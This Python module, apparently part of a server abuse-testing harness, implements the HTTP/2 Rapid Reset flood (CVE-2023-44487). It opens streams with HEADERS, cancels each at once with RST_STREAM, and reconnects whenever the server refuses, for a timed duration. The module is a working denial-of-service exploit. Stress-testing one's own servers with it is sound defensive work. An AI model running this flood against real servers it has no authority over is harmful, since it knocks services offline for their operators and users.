"""HTTP/2 attacks: floods of cheap frames, streams past the limit, malformed requests."""

import asyncio
import time

from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError

from abuse.attacker import connect, request_headers
from abuse.harness import Attack, Target


async def rapid_reset(target: Target, seconds: float) -> None:
    """HEADERS then RST_STREAM, over and over, on a connection opened again when refused
    (CVE-2023-44487)."""
    end = time.monotonic() + seconds
    client = await connect(target)
    try:
        while time.monotonic() < end:
            if not client.alive:
                await client.close()
                client = await connect(target)
            try:
                for _ in range(100):
                    stream_id = client.h2.get_next_available_stream_id()
                    client.h2.send_headers(stream_id, request_headers())
                    client.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
            except ProtocolError:  # the server's GOAWAY arrived: a new connection
                client.closed.set()
            await client.flush()
            await asyncio.sleep(0)
    finally:
        await client.close()


ATTACKS = [
    Attack(
        "rapid-reset",
        rapid_reset,
        about="one connection: HEADERS then RST_STREAM, as fast as it can",
    ),
]
